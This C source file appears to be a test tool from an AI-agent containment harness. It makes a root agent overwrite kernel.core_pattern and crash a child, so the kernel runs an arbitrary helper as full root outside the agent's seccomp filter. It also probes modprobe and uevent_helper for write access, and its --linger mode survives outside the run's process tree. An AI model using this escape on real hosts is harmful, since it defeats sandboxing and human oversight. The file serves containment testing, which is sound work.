/*
 * core-pattern: a root agent's way past the filter through the kernel's
 * usermode helpers. Sets kernel.core_pattern to "|HELPER ARG" and crashes a
 * child: the kernel then starts HELPER as full root, outside the agent's
 * seccomp filter and process tree (it connects wherever ARG says). Also
 * tries to open kernel.modprobe and /sys/kernel/uevent_helper for writing
 * (opened only, never written). With --same it writes core_pattern's own
 * value back instead (changes nothing: safe on a real host) and crashes
 * nothing. With --file PATH it writes PATH instead of /proc/sys's
 * core_pattern (the same sysctl through another proc mount: a chroot
 * builder's /srv/chroot/proc/sys/kernel/core_pattern).
 *
 *     core-pattern [--file PATH] HELPER ARG
 *     core-pattern [--file PATH] --same
 *     core-pattern --linger
 *
 * --linger is a helper for HELPER ARG (`/agents/core-pattern --linger`):
 * started by the kernel, it drains the core from its stdin, so the
 * crashing child goes on and the agent exits, then lives 15 s as a
 * child of kthreadd, outside every process tree of the run (review
 * h-attack74: a survivor the guest's walk skipped as a kernel thread's
 * child; scenario core-pattern-linger).
 */
#include "agentlib.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#define CORE_PATTERN "/proc/sys/kernel/core_pattern"

static void try_open(const char *path)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	agent_log("open_for_write", path, fd, errno, NULL);
	if (fd >= 0)
		close(fd);
}

static long write_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	long r;

	if (fd < 0)
		return -1;
	r = write(fd, text, strlen(text));
	close(fd);
	return r;
}

int main(int argc, char **argv)
{
	const char *file = CORE_PATTERN;
	char old[512] = "", want[600];
	int same, fd;
	long r;

	if (argc == 2 && strcmp(argv[1], "--linger") == 0) {
		char buf[4096];

		while (read(0, buf, sizeof(buf)) > 0)
			;
		close(0);
		sleep(15);
		return 0;
	}
	agent_init("core-pattern");
	if (argc >= 3 && strcmp(argv[1], "--file") == 0) {
		file = argv[2];
		argv += 2;
		argc -= 2;
	}
	same = argc == 2 && strcmp(argv[1], "--same") == 0;
	if (!same && argc != 3)
		return agent_usage("[--file PATH] HELPER ARG | [--file PATH] --same");
	fd = open(file, O_RDONLY | O_CLOEXEC);
	if (fd >= 0) {
		ssize_t n = read(fd, old, sizeof(old) - 1);

		old[n > 0 ? n : 0] = '\0';
		close(fd);
	}
	if (same)
		snprintf(want, sizeof(want), "%s", old);
	else
		snprintf(want, sizeof(want), "|%s %s\n", argv[1], argv[2]);
	r = write_file(file, want);
	agent_log("write_core_pattern", file, r, errno, NULL);
	try_open("/proc/sys/kernel/modprobe");
	try_open("/sys/kernel/uevent_helper");
	try_open("/proc/sysrq-trigger");
	if (!same && r > 0)
		agent_crash_child();
	return 0;
}
